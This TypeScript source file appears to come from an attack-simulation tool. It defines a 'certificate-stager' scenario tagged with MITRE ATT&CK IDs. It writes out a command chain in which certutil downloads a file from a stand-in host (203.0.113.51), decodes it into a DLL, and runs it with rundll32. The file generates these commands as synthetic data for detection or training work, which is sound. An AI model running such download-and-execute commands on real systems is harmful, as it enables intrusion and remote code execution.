import { certutil, rundll32 } from '../programs/proxies'
import { cmd } from '../programs/windows'
import type { AttackStory } from './story'

/** Downloaded with the certificate tool, decoded with it, then loaded. */
export const certificateStager: AttackStory = {
  name: 'certificate-stager',
  technique: 'T1140',
  quiet: false,
  days: 1,
  victims: 1,
  suits: (day) => day.host.duty === 'web',
  run: (stage) => {
    const { day, campaign } = stage
    const name = campaign.word(6)
    const shell = stage.act(
      'T1059.003',
      0,
      day.machine.service('web-pool'),
      cmd,
      'cmd.exe /c cd C:\\Windows\\Temp',
    )
    stage.act(
      'T1105',
      5,
      shell,
      certutil,
      `certutil  -urlcache -split -f http://203.0.113.51/${name}.txt C:\\Windows\\Temp\\${name}.txt`,
    )
    stage.act(
      'T1140',
      20,
      shell,
      certutil,
      `certutil  -decode C:\\Windows\\Temp\\${name}.txt C:\\Windows\\Temp\\${name}.dll`,
    )
    stage.act('T1218.011', 31, shell, rundll32, `rundll32  C:\\Windows\\Temp\\${name}.dll,Run`)
  },
}
